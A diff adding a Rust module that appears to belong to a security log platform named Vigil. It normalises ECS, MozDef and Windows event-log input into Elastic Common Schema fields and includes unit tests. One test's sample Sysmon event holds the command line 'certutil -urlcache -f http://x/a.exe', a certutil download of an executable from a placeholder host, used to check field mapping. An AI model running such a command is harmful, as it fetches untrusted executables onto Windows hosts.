@@ -1,0 +1,895 @@
+//! Turning whatever a shipper sent into one event: ECS fields for what Vigil
+//! understands, every input field kept.
+//!
+//! The stored document (`payload`) is the input object with Elastic Common
+//! Schema fields added where they are absent (`@timestamp`, `event.*`,
+//! `host.name`, `source.ip`, …). Input fields keep their names, so Sigma
+//! rules can still say `Image` or `CommandLine`. When an ECS object would land
+//! on a key that holds a scalar (a Logstash-style `"host": "web01"`), the scalar
+//! moves to `vigil.original.<key>`; nothing is dropped. The hot fields are then
+//! read back from the document into table columns, so the two never disagree.
+//!
+//! Recognised shapes: ECS/Beats documents, MozDef events (`summary`,
+//! `hostname`, `details.*`, `utctimestamp`), Windows event log exports in nested
+//! form (`Event.System` / `Event.EventData`, flattened to the field names Sigma
+//! uses) and flat form (OTRF recordings: `EventID`, `Channel`, `Image`, …).
+
+use super::timestamp::parse_timestamp;
+use chrono::{DateTime, SecondsFormat, Utc};
+use serde_json::{Map, Value};
+use std::net::IpAddr;
+use std::time::Duration;
+use uuid::Uuid;
+
+/// Returns one normalised event, ready to store.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Event {
+    /// Vigil's id for the event (time-ordered UUIDv7).
+    pub id: Uuid,
+    /// `@timestamp`: when it happened (or when received, see `vigil.flags`).
+    pub ts: DateTime<Utc>,
+    /// `event.ingested`.
+    pub ingested_at: DateTime<Utc>,
+    /// The API key or listener that delivered it.
+    pub source_id: Option<Uuid>,
+    /// `event.category` (the first, when several).
+    pub category: Option<String>,
+    /// `event.action`.
+    pub action: Option<String>,
+    /// `event.outcome`: success, failure or unknown.
+    pub outcome: Option<String>,
+    /// `log.level`, lowercase.
+    pub log_level: Option<String>,
+    /// `host.name`.
+    pub host_name: Option<String>,
+    /// `source.ip`.
+    pub source_ip: Option<IpAddr>,
+    /// `destination.ip`.
+    pub destination_ip: Option<IpAddr>,
+    /// `user.name`.
+    pub user_name: Option<String>,
+    /// `process.name`.
+    pub process_name: Option<String>,
+    /// `message`.
+    pub message: Option<String>,
+    /// `tags`.
+    pub tags: Vec<String>,
+    /// The whole document.
+    pub payload: Value,
+}
+
+/// Returns why an item was refused.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rejection {
+    /// A stable code (`not_an_object`, `invalid_json`, `too_large`).
+    pub code: &'static str,
+    /// What was wrong.
+    pub message: String,
+}
+
+/// Returns where and when events arrive.
+#[derive(Debug, Clone)]
+pub struct IngestContext {
+    /// The delivering API key or listener.
+    pub source_id: Option<Uuid>,
+    /// Its name, stored in `vigil.source`.
+    pub source_name: String,
+    /// The receive time.
+    pub received_at: DateTime<Utc>,
+}
+
+/// Returns the normaliser's time rules.
+#[derive(Debug, Clone, Copy)]
+pub struct TimePolicy {
+    /// Events older than this are kept at their receive time (and flagged).
+    pub max_age: Duration,
+    /// Events further ahead than this are kept at their receive time (and flagged).
+    pub max_future: Duration,
+}
+
+impl Default for TimePolicy {
+    fn default() -> Self {
+        TimePolicy {
+            max_age: Duration::from_secs(90 * 24 * 3600),
+            max_future: Duration::from_secs(24 * 3600),
+        }
+    }
+}
+
+/// Fields that may carry the event time, most specific first.
+const TIME_FIELDS: &[&str] = &[
+    "@timestamp",
+    "utctimestamp",
+    "timestamp",
+    "eventtime",
+    "TimeCreated_SystemTime",
+    "UtcTime",
+    "TimeCreated",
+    "EventTime",
+    "date",
+    "time",
+];
+
+/// Returns the event for `doc`, or why it cannot be one.
+pub fn normalize(doc: Value, ctx: &IngestContext, policy: TimePolicy) -> Result<Event, Rejection> {
+    let Value::Object(mut fields) = doc else {
+        return Err(Rejection {
+            code: "not_an_object",
+            message: format!("an event must be a JSON object, not {}", kind_of(&doc)),
+        });
+    };
+    replace_nul_characters(&mut fields);
+    let mut derived = Derived::default();
+
+    flatten_windows_export(&mut fields);
+    if is_mozdef(&fields) {
+        derive_mozdef(&fields, &mut derived);
+    }
+    if fields.contains_key("EventID") {
+        derive_windows(&fields, &mut derived);
+    }
+    derive_common(&fields, &mut derived);
+
+    let (ts, time_flag, original_time) = event_time(&fields, ctx.received_at, policy);
+    let id = Uuid::now_v7();
+    let mut doc = Document {
+        fields,
+        moved: Vec::new(),
+    };
+    let mut flags: Vec<Value> = Vec::new();
+    if let Some(flag) = time_flag {
+        flags.push(Value::from(flag));
+    }
+    doc.put(
+        "@timestamp",
+        Value::from(ts.to_rfc3339_opts(SecondsFormat::Micros, true)),
+        true,
+    );
+    doc.put(
+        "event.ingested",
+        Value::from(ctx.received_at.to_rfc3339_opts(SecondsFormat::Micros, true)),
+        true,
+    );
+    doc.put("event.id", Value::from(id.to_string()), false);
+    for (path, value) in derived.values {
+        doc.put(path, value, false);
+    }
+    if !derived.tags.is_empty() {
+        let mut tags = string_list(doc.fields.get("tags"));
+        for tag in derived.tags {
+            if !tags.contains(&tag) {
+                tags.push(tag);
+            }
+        }
+        doc.fields.insert("tags".into(), Value::from(tags));
+    }
+    doc.put(
+        "vigil.source.name",
+        Value::from(ctx.source_name.clone()),
+        true,
+    );
+    if let Some(source) = ctx.source_id {
+        doc.put("vigil.source.id", Value::from(source.to_string()), true);
+    }
+    if let Some(original) = original_time {
+        doc.put("vigil.original_timestamp", original, true);
+    }
+    if !doc.moved.is_empty() {
+        flags.push(Value::from("renamed_conflicting_fields"));
+    }
+    if !flags.is_empty() {
+        doc.put("vigil.flags", Value::from(flags), true);
+    }
+
+    let payload = Value::Object(doc.fields);
+    Ok(Event {
+        id,
+        ts,
+        ingested_at: ctx.received_at,
+        source_id: ctx.source_id,
+        category: text_at(&payload, "event.category").map(|c| c.to_lowercase()),
+        action: text_at(&payload, "event.action"),
+        outcome: text_at(&payload, "event.outcome").map(|o| o.to_lowercase()),
+        log_level: text_at(&payload, "log.level").map(|l| l.to_lowercase()),
+        host_name: text_at(&payload, "host.name"),
+        source_ip: ip_at(&payload, "source.ip"),
+        destination_ip: ip_at(&payload, "destination.ip"),
+        user_name: text_at(&payload, "user.name"),
+        process_name: text_at(&payload, "process.name"),
+        message: text_at(&payload, "message"),
+        tags: string_list(payload.get("tags")),
+        payload,
+    })
+}
+
+/// Postgres text and jsonb cannot hold U+0000; it becomes U+FFFD rather than
+/// failing the whole batch the event travels in.
+fn replace_nul_characters(fields: &mut Map<String, Value>) {
+    if fields.keys().any(|k| k.contains('\0')) {
+        let old = std::mem::take(fields);
+        for (key, value) in old {
+            fields.insert(key.replace('\0', "\u{FFFD}"), value);
+        }
+    }
+    for value in fields.values_mut() {
+        replace_nul_in_value(value);
+    }
+}
+
+fn replace_nul_in_value(value: &mut Value) {
+    match value {
+        Value::String(text) if text.contains('\0') => *text = text.replace('\0', "\u{FFFD}"),
+        Value::Object(inner) => replace_nul_characters(inner),
+        Value::Array(items) => items.iter_mut().for_each(replace_nul_in_value),
+        _ => {}
+    }
+}
+
+fn kind_of(value: &Value) -> &'static str {
+    match value {
+        Value::Null => "null",
+        Value::Bool(_) => "a boolean",
+        Value::Number(_) => "a number",
+        Value::String(_) => "a string",
+        Value::Array(_) => "an array",
+        Value::Object(_) => "an object",
+    }
+}
+
+/// ECS values derived from recognised input fields, applied where absent.
+#[derive(Debug, Default)]
+struct Derived {
+    values: Vec<(&'static str, Value)>,
+    tags: Vec<String>,
+}
+
+impl Derived {
+    fn set(&mut self, path: &'static str, value: Option<Value>) {
+        if let Some(value) = value.filter(|v| !is_blank(v))
+            && !self.values.iter().any(|(p, _)| *p == path)
+        {
+            self.values.push((path, value));
+        }
+    }
+}
+
+fn is_blank(value: &Value) -> bool {
+    match value {
+        Value::Null => true,
+        Value::String(s) => s.trim().is_empty(),
+        _ => false,
+    }
+}
+
+/// Returns the value at a dotted path, following nested objects; a literal key
+/// with dots (`"host.name": …`) is found too.
+pub fn value_at<'a>(doc: &'a Value, path: &str) -> Option<&'a Value> {
+    lookup(doc.as_object()?, path)
+}
+
+fn lookup<'a>(object: &'a Map<String, Value>, path: &str) -> Option<&'a Value> {
+    if let Some(value) = object.get(path) {
+        return Some(value);
+    }
+    let (head, rest) = path.split_once('.')?;
+    lookup(object.get(head)?.as_object()?, rest)
+}
+
+fn text_at(doc: &Value, path: &str) -> Option<String> {
+    scalar_text(value_at(doc, path)?)
+}
+
+fn scalar_text(value: &Value) -> Option<String> {
+    let text = match value {
+        Value::String(s) => s.trim().to_owned(),
+        Value::Number(n) => n.to_string(),
+        Value::Bool(b) => b.to_string(),
+        Value::Array(items) => return items.first().and_then(scalar_text),
+        _ => return None,
+    };
+    (!text.is_empty()).then_some(text)
+}
+
+fn ip_at(doc: &Value, path: &str) -> Option<IpAddr> {
+    parse_ip(&text_at(doc, path)?)
+}
+
+/// Returns the address in `text`, tolerating IPv6 brackets and an IPv4 port suffix.
+fn parse_ip(text: &str) -> Option<IpAddr> {
+    let trimmed = text.trim().trim_start_matches('[').trim_end_matches(']');
+    if let Ok(ip) = trimmed.parse::<IpAddr>() {
+        return Some(ip);
+    }
+    let (host, port) = trimmed.rsplit_once(':')?;
+    port.parse::<u16>().ok()?;
+    host.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4)
+}
+
+fn string_list(value: Option<&Value>) -> Vec<String> {
+    match value {
+        Some(Value::Array(items)) => items.iter().filter_map(scalar_text).collect(),
+        Some(other) => scalar_text(other).into_iter().collect(),
+        None => Vec::new(),
+    }
+}
+
+/// The document being built, with the collision rule for dotted paths.
+struct Document {
+    fields: Map<String, Value>,
+    moved: Vec<String>,
+}
+
+impl Document {
+    /// Sets `path` to `value`; `overwrite` replaces an existing value, otherwise an
+    /// existing non-blank value wins. A scalar in the way of an object moves to
+    /// `vigil.original.<prefix>`.
+    fn put(&mut self, path: &str, value: Value, overwrite: bool) {
+        if !overwrite && lookup(&self.fields, path).is_some_and(|v| !is_blank(v)) {
+            return;
+        }
+        let segments: Vec<&str> = path.split('.').collect();
+        let Some((last, parents)) = segments.split_last() else {
+            return;
+        };
+        let mut displaced: Vec<(String, Value)> = Vec::new();
+        let mut current = &mut self.fields;
+        for (i, segment) in parents.iter().enumerate() {
+            if current.get(*segment).is_some_and(|v| !v.is_object())
+                && let Some(old) = current.insert((*segment).to_owned(), Value::Object(Map::new()))
+            {
+                displaced.push((segments[..=i].join("."), old));
+            }
+            current = current
+                .entry((*segment).to_owned())
+                .or_insert_with(|| Value::Object(Map::new()))
+                .as_object_mut()
+                .expect("an object was just ensured at this key");
+        }
+        current.insert((*last).to_owned(), value);
+        for (prefix, old) in displaced {
+            self.moved.push(prefix.clone());
+            self.stash_original(prefix, old);
+        }
+    }
+
+    fn stash_original(&mut self, path: String, value: Value) {
+        let vigil = self
+            .fields
+            .entry("vigil")
+            .or_insert_with(|| Value::Object(Map::new()));
+        if !vigil.is_object() {
+            *vigil = Value::Object(Map::new());
+        }
+        if let Some(vigil) = vigil.as_object_mut() {
+            let original = vigil
+                .entry("original")
+                .or_insert_with(|| Value::Object(Map::new()));
+            if let Some(original) = original.as_object_mut() {
+                original.insert(path, value);
+            }
+        }
+    }
+}
+
+/// Picks the event time: the first parseable time field, within the policy's
+/// range; otherwise the receive time with a flag and the original kept.
+fn event_time(
+    fields: &Map<String, Value>,
+    received: DateTime<Utc>,
+    policy: TimePolicy,
+) -> (DateTime<Utc>, Option<&'static str>, Option<Value>) {
+    let mut unparsed: Option<Value> = None;
+    for field in TIME_FIELDS {
+        let Some(raw) = lookup(fields, field) else {
+            continue;
+        };
+        let Some(ts) = parse_timestamp(raw, received) else {
+            unparsed.get_or_insert_with(|| raw.clone());
+            continue;
+        };
+        let oldest = received - chrono::Duration::from_std(policy.max_age).unwrap_or_default();
+        let newest = received + chrono::Duration::from_std(policy.max_future).unwrap_or_default();
+        if ts < oldest || ts > newest {
+            return (received, Some("timestamp_out_of_range"), Some(raw.clone()));
+        }
+        return (ts, None, None);
+    }
+    match unparsed {
+        Some(raw) => (received, Some("timestamp_unparsed"), Some(raw)),
+        None => (received, Some("timestamp_missing"), None),
+    }
+}
+
+// --- Windows event log exports ------------------------------------------------
+
+/// Flattens `{"Event": {"System": …, "EventData": …}}` into top-level fields
+/// named as Sigma expects: EventData and System children by name, XML
+/// attributes as `<Element>_<Attribute>` (`Provider_Name`, `TimeCreated_SystemTime`).
+fn flatten_windows_export(fields: &mut Map<String, Value>) {
+    let is_export = fields
+        .get("Event")
+        .and_then(Value::as_object)
+        .is_some_and(|event| event.contains_key("System"));
+    if !is_export {
+        return;
+    }
+    let Some(Value::Object(event)) = fields.remove("Event") else {
+        return;
+    };
+    for (section, content) in event {
+        match (section.as_str(), content) {
+            ("#attributes", _) => {}
+            (_, Value::Object(children)) => {
+                for (name, child) in children {
+                    flatten_xml_child(fields, &name, child);
+                }
+            }
+            (name, other) => {
+                fields.entry(name.to_owned()).or_insert(other);
+            }
+        }
+    }
+}
+
+fn flatten_xml_child(fields: &mut Map<String, Value>, name: &str, child: Value) {
+    match child {
+        Value::Object(mut inner)
+            if inner.contains_key("#attributes") || inner.contains_key("#text") =>
+        {
+            if let Some(Value::Object(attributes)) = inner.remove("#attributes") {
+                for (attribute, value) in attributes {
+                    fields.entry(format!("{name}_{attribute}")).or_insert(value);
+                }
+            }
+            if let Some(text) = inner.remove("#text") {
+                fields.entry(name.to_owned()).or_insert(text);
+            }
+            for (rest, value) in inner {
+                fields.entry(format!("{name}_{rest}")).or_insert(value);
+            }
+        }
+        other => {
+            fields.entry(name.to_owned()).or_insert(other);
+        }
+    }
+}
+
+fn first_of(fields: &Map<String, Value>, names: &[&str]) -> Option<Value> {
+    names
+        .iter()
+        .filter_map(|n| fields.get(*n))
+        .find(|v| !is_blank(v))
+        .cloned()
+}
+
+fn windows_basename(path: &str) -> String {
+    path.rsplit(['\\', '/']).next().unwrap_or(path).to_owned()
+}
+
+fn derive_windows(fields: &Map<String, Value>, derived: &mut Derived) {
+    let code = fields.get("EventID").and_then(scalar_text);
+    let channel = fields
+        .get("Channel")
+        .and_then(scalar_text)
+        .unwrap_or_default()
+        .to_lowercase();
+    derived.set("event.code", code.clone().map(Value::from));
+    derived.set("host.name", first_of(fields, &["Hostname", "Computer"]));
+    derived.set(
+        "event.provider",
+        first_of(fields, &["Provider_Name", "SourceName"]),
+    );
+    derived.set("winlog.channel", first_of(fields, &["Channel"]));
+    derived.set("message", first_of(fields, &["Message"]));
+    if let Some(image) = fields.get("Image").and_then(scalar_text) {
+        derived.set("process.executable", Some(Value::from(image.clone())));
+        derived.set("process.name", Some(Value::from(windows_basename(&image))));
+    }
+    derived.set("process.command_line", first_of(fields, &["CommandLine"]));
+    derived.set(
+        "process.parent.executable",
+        first_of(fields, &["ParentImage"]),
+    );
+    derived.set(
+        "user.name",
+        first_of(fields, &["TargetUserName", "User", "SubjectUserName"]),
+    );
+    derived.set(
+        "source.ip",
+        first_of(fields, &["IpAddress", "SourceAddress", "SourceIp"])
+            .filter(|v| v.as_str().and_then(parse_ip).is_some()),
+    );
+    derived.set(
+        "destination.ip",
+        first_of(fields, &["DestAddress", "DestinationIp"])
+            .filter(|v| v.as_str().and_then(parse_ip).is_some()),
+    );
+
+    let sysmon = channel.contains("sysmon");
+    let (category, action, outcome) = match (sysmon, code.as_deref().unwrap_or_default()) {
+        (true, "1") => ("process", "process-created", None),
+        (true, "3") => ("network", "network-connection", None),
+        (true, "5") => ("process", "process-terminated", None),
+        (true, "7") => ("library", "image-loaded", None),
+        (true, "10") => ("process", "process-accessed", None),
+        (true, "11") => ("file", "file-created", None),
+        (true, "12" | "13" | "14") => ("registry", "registry-changed", None),
+        (true, "22") => ("network", "dns-query", None),
+        (false, "4624") => ("authentication", "logged-in", Some("success")),
+        (false, "4625") => ("authentication", "logon-failed", Some("failure")),
+        (false, "4634" | "4647") => ("authentication", "logged-out", Some("success")),
+        (false, "4688") => ("process", "process-created", None),
+        (false, "4720") => ("iam", "user-created", Some("success")),
+        (false, "4698") => ("configuration", "scheduled-task-created", None),
+        (false, "5156") => ("network", "connection-allowed", Some("success")),
+        (false, "7045") => ("configuration", "service-installed", None),
+        _ => ("", "", None),
+    };
+    if !category.is_empty() {
+        derived.set("event.category", Some(Value::from(category)));
+        derived.set("event.action", Some(Value::from(action)));
+        derived.set("event.outcome", outcome.map(Value::from));
+    }
+}
+
+// --- MozDef ---------------------------------------------------------------------
+
+fn is_mozdef(fields: &Map<String, Value>) -> bool {
+    ["summary", "utctimestamp", "processname", "mozdefhostname"]
+        .iter()
+        .any(|k| fields.contains_key(*k))
+        || fields.get("details").is_some_and(Value::is_object)
+}
+
+/// Maps MozDef's schema (docs: json_format.rst) onto ECS, keeping the originals.
+fn derive_mozdef(fields: &Map<String, Value>, derived: &mut Derived) {
+    derived.set("message", first_of(fields, &["summary"]));
+    derived.set("host.name", first_of(fields, &["hostname"]));
+    derived.set("process.name", first_of(fields, &["processname"]));
+    derived.set(
+        "process.pid",
+        fields
+            .get("processid")
+            .and_then(scalar_text)
+            .and_then(|p| p.parse::<i64>().ok())
+            .map(Value::from),
+    );
+    derived.set(
+        "event.category",
+        first_of(fields, &["category"])
+            .map(|c| Value::from(scalar_text(&c).unwrap_or_default().to_lowercase())),
+    );
+    derived.set(
+        "log.level",
+        fields
+            .get("severity")
+            .and_then(scalar_text)
+            .map(|s| Value::from(s.to_lowercase())),
+    );
+    if let Some(Value::Object(details)) = fields.get("details") {
+        derived.set(
+            "source.ip",
+            first_of(details, &["sourceipaddress", "sourceipv4address"]),
+        );
+        derived.set(
+            "destination.ip",
+            first_of(details, &["destinationipaddress", "destinationipv4address"]),
+        );
+        derived.set("source.port", first_of(details, &["sourceport"]));
+        derived.set("destination.port", first_of(details, &["destinationport"]));
+        derived.set("user.name", first_of(details, &["username", "user"]));
+        derived.set("user_agent.original", first_of(details, &["useragent"]));
+        let outcome = match details.get("success") {
+            Some(Value::Bool(true)) => Some("success"),
+            Some(Value::Bool(false)) => Some("failure"),
+            Some(Value::String(s)) if s.eq_ignore_ascii_case("true") => Some("success"),
+            Some(Value::String(s)) if s.eq_ignore_ascii_case("false") => Some("failure"),
+            _ => None,
+        };
+        derived.set("event.outcome", outcome.map(Value::from));
+    }
+    if let Some(tags) = fields.get("tags") {
+        // MozDef accepts a single string as a one-tag list.
+        if let Value::String(tag) = tags
+            && !tag.trim().is_empty()
+        {
+            derived.tags.push(tag.trim().to_owned());
+        }
+    }
+}
+
+// --- Everything else --------------------------------------------------------------
+
+/// Common shipper spellings of ECS fields (syslog-ng, Fluent Bit, Logstash, nxlog).
+fn derive_common(fields: &Map<String, Value>, derived: &mut Derived) {
+    derived.set(
+        "host.name",
+        first_of(
+            fields,
+            &["hostname", "host", "source_host", "HOSTNAME", "Hostname"],
+        )
+        .filter(Value::is_string),
+    );
+    derived.set(
+        "process.name",
+        first_of(fields, &["program", "PROGRAM", "ident", "SourceName"]).filter(Value::is_string),
+    );
+    derived.set(
+        "log.level",
+        fields
+            .get("level")
+            .or_else(|| fields.get("PRIORITY"))
+            .and_then(scalar_text)
+            .map(|l| Value::from(l.to_lowercase())),
+    );
+    derived.set(
+        "message",
+        first_of(fields, &["msg", "MESSAGE", "log"]).filter(Value::is_string),
+    );
+    if let Some(Value::String(tag)) = fields.get("tags")
+        && !tag.trim().is_empty()
+    {
+        derived.tags.push(tag.trim().to_owned());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn ctx() -> IngestContext {
+        IngestContext {
+            source_id: Some(Uuid::nil()),
+            source_name: "test-shipper".into(),
+            received_at: DateTime::parse_from_rfc3339("2026-11-29T12:00:00Z")
+                .unwrap()
+                .with_timezone(&Utc),
+        }
+    }
+
+    fn norm(doc: Value) -> Event {
+        normalize(doc, &ctx(), TimePolicy::default()).unwrap()
+    }
+
+    #[test]
+    fn non_objects_are_rejected_with_their_kind() {
+        for (doc, kind) in [
+            (json!([1]), "an array"),
+            (json!("x"), "a string"),
+            (json!(null), "null"),
+        ] {
+            let rejection = normalize(doc, &ctx(), TimePolicy::default()).unwrap_err();
+            assert_eq!(rejection.code, "not_an_object");
+            assert!(rejection.message.contains(kind), "{}", rejection.message);
+        }
+    }
+
+    #[test]
+    fn ecs_documents_pass_through_into_columns() {
+        let event = norm(json!({
+            "@timestamp": "2026-11-29T11:59:00Z",
+            "event": {"category": ["authentication"], "action": "ssh_login", "outcome": "Failure"},
+            "host": {"name": "bastion-1"},
+            "source": {"ip": "203.0.113.7", "port": 50022},
+            "user": {"name": "root"},
+            "process": {"name": "sshd", "pid": 411},
+            "message": "Failed password for root from 203.0.113.7 port 50022 ssh2",
+            "tags": ["ssh", "prod"],
+            "labels": {"env": "prod"}
+        }));
+        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:59:00+00:00");
+        assert_eq!(event.category.as_deref(), Some("authentication"));
+        assert_eq!(event.action.as_deref(), Some("ssh_login"));
+        assert_eq!(event.outcome.as_deref(), Some("failure"));
+        assert_eq!(event.host_name.as_deref(), Some("bastion-1"));
+        assert_eq!(event.source_ip, Some("203.0.113.7".parse().unwrap()));
+        assert_eq!(event.user_name.as_deref(), Some("root"));
+        assert_eq!(event.process_name.as_deref(), Some("sshd"));
+        assert_eq!(event.tags, vec!["ssh", "prod"]);
+        assert_eq!(event.payload["labels"]["env"], "prod");
+        assert_eq!(event.payload["source"]["port"], 50022);
+        assert_eq!(
+            event.payload["event"]["ingested"],
+            "2026-11-29T12:00:00.000000Z"
+        );
+        assert_eq!(event.payload["event"]["id"], event.id.to_string());
+        assert_eq!(event.payload["vigil"]["source"]["name"], "test-shipper");
+        assert!(event.payload["vigil"].get("flags").is_none());
+    }
+
+    #[test]
+    fn mozdef_events_map_as_mozdef_did() {
+        let event = norm(json!({
+            "utctimestamp": "2026-11-29T11:00:00+00:00",
+            "summary": "joe login failed",
+            "category": "Authentication",
+            "hostname": "ldap1.corp",
+            "processname": "slapd",
+            "processid": "1234",
+            "severity": "INFO",
+            "source": "ldap",
+            "tags": ["ldap", "adminAccess", "failure"],
+            "details": {"username": "joe", "success": false, "sourceipaddress": "10.1.2.3"}
+        }));
+        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:00:00+00:00");
+        assert_eq!(event.message.as_deref(), Some("joe login failed"));
+        assert_eq!(event.category.as_deref(), Some("authentication"));
+        assert_eq!(event.host_name.as_deref(), Some("ldap1.corp"));
+        assert_eq!(event.process_name.as_deref(), Some("slapd"));
+        assert_eq!(event.log_level.as_deref(), Some("info"));
+        assert_eq!(event.user_name.as_deref(), Some("joe"));
+        assert_eq!(event.outcome.as_deref(), Some("failure"));
+        assert_eq!(event.source_ip, Some("10.1.2.3".parse().unwrap()));
+        assert_eq!(event.payload["process"]["pid"], 1234);
+        // MozDef's string `source` is kept, moved aside for ECS's `source` object.
+        assert_eq!(event.payload["vigil"]["original"]["source"], "ldap");
+        assert_eq!(event.payload["source"]["ip"], "10.1.2.3");
+        assert_eq!(event.payload["summary"], "joe login failed");
+        assert_eq!(event.payload["details"]["username"], "joe");
+        assert_eq!(
+            event.payload["vigil"]["flags"],
+            json!(["renamed_conflicting_fields"])
+        );
+    }
+
+    #[test]
+    fn a_single_string_tag_becomes_a_list() {
+        let event = norm(json!({"summary": "x", "tags": "test"}));
+        assert_eq!(event.tags, vec!["test"]);
+    }
+
+    #[test]
+    fn nested_windows_exports_are_flattened_to_sigma_names() {
+        // The first SigmaHQ regression event (a real EVTX export) with an Image field.
+        let doc = first_regression_event().expect("SigmaHQ regression data in ../shared/data");
+        let event = norm(doc.clone());
+        let payload = &event.payload;
+        assert!(
+            payload.get("Event").is_none(),
+            "the nested form is replaced by flat fields"
+        );
+        assert!(payload.get("EventID").is_some());
+        assert!(payload.get("Channel").is_some());
+        assert!(payload.get("Provider_Name").is_some());
+        let system_time = doc["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]
+            .as_str()
+            .unwrap();
+        assert_eq!(payload["TimeCreated_SystemTime"], system_time);
+        assert_eq!(
+            event.host_name.as_deref(),
+            doc["Event"]["System"]["Computer"].as_str()
+        );
+        // The recorded time is older than 90 days, so it is kept but flagged.
+        assert_eq!(payload["vigil"]["flags"], json!(["timestamp_out_of_range"]));
+        assert_eq!(payload["vigil"]["original_timestamp"], system_time);
+        for (name, value) in doc["Event"]["EventData"].as_object().unwrap() {
+            assert_eq!(&payload[name], value, "EventData field {name}");
+        }
+    }
+
+    fn first_regression_event() -> Option<Value> {
+        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../shared/data/sigma/regression_data");
+        let mut stack = vec![root];
+        while let Some(dir) = stack.pop() {
+            let mut entries: Vec<_> = std::fs::read_dir(&dir)
+                .ok()?
+                .flatten()
+                .map(|e| e.path())
+                .collect();
+            entries.sort();
+            for path in entries {
+                if path.is_dir() {
+                    stack.push(path);
+                } else if path.extension().is_some_and(|e| e == "json")
+                    && let Ok(text) = std::fs::read_to_string(&path)
+                    && let Ok(value) = serde_json::from_str::<Value>(&text)
+                    && value["Event"]["EventData"]["Image"].is_string()
+                {
+                    return Some(value);
+                }
+            }
+        }
+        None
+    }
+
+    #[test]
+    fn flat_windows_events_get_ecs_fields() {
+        let event = norm(json!({
+            "EventID": 4625, "Channel": "Security", "Hostname": "WORKSTATION5",
+            "TargetUserName": "pgustavo", "IpAddress": "172.18.39.5",
+            "TimeCreated": "2026-11-29 11:58:00.123", "Message": "An account failed to log on."
+        }));
+        assert_eq!(event.category.as_deref(), Some("authentication"));
+        assert_eq!(event.outcome.as_deref(), Some("failure"));
+        assert_eq!(event.host_name.as_deref(), Some("WORKSTATION5"));
+        assert_eq!(event.user_name.as_deref(), Some("pgustavo"));
+        assert_eq!(event.source_ip, Some("172.18.39.5".parse().unwrap()));
+        assert_eq!(event.payload["event"]["code"], "4625");
+        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:58:00.123+00:00");
+
+        let sysmon = norm(json!({
+            "EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"
+        }));
+        assert_eq!(sysmon.process_name.as_deref(), Some("certutil.exe"));
+        assert_eq!(sysmon.action.as_deref(), Some("process-created"));
+        assert_eq!(
+            sysmon.payload["process"]["command_line"],
+            "certutil -urlcache -f http://x/a.exe"
+        );
+        assert_eq!(
+            sysmon.payload["Image"],
+            "C:\\Windows\\System32\\certutil.exe"
+        );
+    }
+
+    #[test]
+    fn events_without_a_usable_time_are_kept_at_receive_time_and_flagged() {
+        let missing = norm(json!({"message": "no time here"}));
+        assert_eq!(missing.ts, ctx().received_at);
+        assert_eq!(
+            missing.payload["vigil"]["flags"],
+            json!(["timestamp_missing"])
+        );
+
+        let future =
+            norm(json!({"@timestamp": "2027-06-01T00:00:00Z", "message": "from the future"}));
+        assert_eq!(future.ts, ctx().received_at);
+        assert_eq!(
+            future.payload["vigil"]["original_timestamp"],
+            "2027-06-01T00:00:00Z"
+        );
+        assert_eq!(
+            future.payload["vigil"]["flags"],
+            json!(["timestamp_out_of_range"])
+        );
+
+        let garbage = norm(json!({"timestamp": "last tuesday", "message": "x"}));
+        assert_eq!(
+            garbage.payload["vigil"]["flags"],
+            json!(["timestamp_unparsed"])
+        );
+        assert_eq!(garbage.payload["timestamp"], "last tuesday");
+    }
+
+    #[test]
+    fn shipper_scalars_in_ecs_places_move_aside_instead_of_vanishing() {
+        let event = norm(
+            json!({"host": "web01", "program": "nginx", "message": "GET /", "@timestamp": "2026-11-29T11:00:00Z"}),
+        );
+        assert_eq!(event.host_name.as_deref(), Some("web01"));
+        assert_eq!(event.payload["host"]["name"], "web01");
+        assert_eq!(event.payload["vigil"]["original"]["host"], "web01");
+        assert_eq!(event.process_name.as_deref(), Some("nginx"));
+    }
+
+    #[test]
+    fn bad_addresses_do_not_become_columns() {
+        let event =
+            norm(json!({"source": {"ip": "not-an-ip"}, "destination": {"ip": "10.0.0.1:443"}}));
+        assert_eq!(event.source_ip, None);
+        assert_eq!(event.destination_ip, Some("10.0.0.1".parse().unwrap()));
+        assert_eq!(event.payload["source"]["ip"], "not-an-ip");
+    }
+
+    #[test]
+    fn nul_characters_cannot_reach_postgres() {
+        let event = norm(json!({"message": "a\u{0}b", "k\u{0}": ["x\u{0}"], "o": {"i": "\u{0}"}}));
+        let text = event.payload.to_string();
+        assert!(
+            !text.contains("\\u0000") && !text.contains('\u{0}'),
+            "{text}"
+        );
+        assert_eq!(event.message.as_deref(), Some("a\u{FFFD}b"));
+    }
+
+    #[test]
+    fn ids_are_unique_and_time_ordered() {
+        let a = norm(json!({"message": "a"}));
+        let b = norm(json!({"message": "b"}));
+        assert_ne!(a.id, b.id);
+        assert!(a.id < b.id);
+    }
+}
